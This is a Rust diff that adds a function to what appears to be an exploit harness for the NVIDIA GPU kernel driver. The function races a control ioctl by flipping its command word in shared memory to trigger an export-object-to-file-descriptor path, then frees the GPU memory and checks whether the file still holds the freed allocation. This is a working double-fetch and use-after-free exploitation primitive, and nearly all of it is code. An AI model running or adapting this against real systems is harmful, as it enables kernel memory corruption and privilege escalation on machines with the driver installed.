@@ -106,6 +106,60 @@ pub(super) fn class_in_client(place: &Place, arguments: &[String]) -> anyhow::Re
     Ok(got)
 }
 
+/// A control is none when it is looked at, and after exports memory to a file, which keeps it
+/// when it's freed. With `xfer`, inside `NV_ESC_IOCTL_XFER_CMD`.
+pub(super) fn swap_control(place: &Place, arguments: &[String]) -> anyhow::Result<u64> {
+    const BYTES: u64 = 200 << 20;
+    const FILES: usize = 8;
+    let rm = Rm::start(place)?;
+    let wrapped = arguments.first().is_some_and(|word| word == "xfer");
+    let params = Shared::new(vec![0; 24]);
+    let mut call = vec![0; 32];
+    call.set_u32(0, rm.client);
+    call.set_u32(4, rm.client);
+    call.set_u64(16, params.address());
+    call.set_u32(24, 24);
+    let call = Shared::new(call);
+    let mut wrapper = vec![0; 16];
+    wrapper.set_u32(0, NV_ESC_RM_CONTROL);
+    wrapper.set_u32(4, 32);
+    wrapper.set_u64(8, call.address());
+    let wrapper = Shared::new(wrapper);
+    let flip = || {
+        call.set(8, NV0000_CTRL_CMD_OS_UNIX_EXPORT_OBJECT_TO_FD);
+        call.set(8, 0_u32);
+    };
+    let mut files = Vec::new();
+    let (mut got, mut kept) = (0, 0);
+    for _ in 0..FILES {
+        let Ok((memory, bytes)) = rm.alloc(BYTES) else { break };
+        let file = open(&place.dev, "nvidiactl")?;
+        let number = u32::try_from(file.as_raw_fd())?;
+        for (at, value) in [1, rm.device, rm.device, memory, number, 0].into_iter().enumerate() {
+            params.set(4 * at, value);
+        }
+        against(flip, || {
+            for _ in 0..ROUNDS / 4 {
+                if wrapped {
+                    wrapper.ioctl(rm.ctl(), command(NV_ESC_IOCTL_XFER_CMD, 16));
+                } else {
+                    call.ioctl(rm.ctl(), command(NV_ESC_RM_CONTROL, 32));
+                }
+            }
+        });
+        let freed = rm.free(rm.device, memory);
+        // What the file kept is had again by it; where that is refused, by nobody.
+        if rm.import(file.as_raw_fd()).is_ok() {
+            kept += 1;
+            got += bytes;
+        }
+        println!("freed={freed:?}");
+        files.push(file);
+    }
+    println!("files={FILES} kept={kept}");
+    Ok(got)
+}
+
 fn dup2(from: i32, to: i32) {
     // SAFETY: `to` is a number that is ours to replace, made for this.
     unsafe { libc::dup2(from, to) };
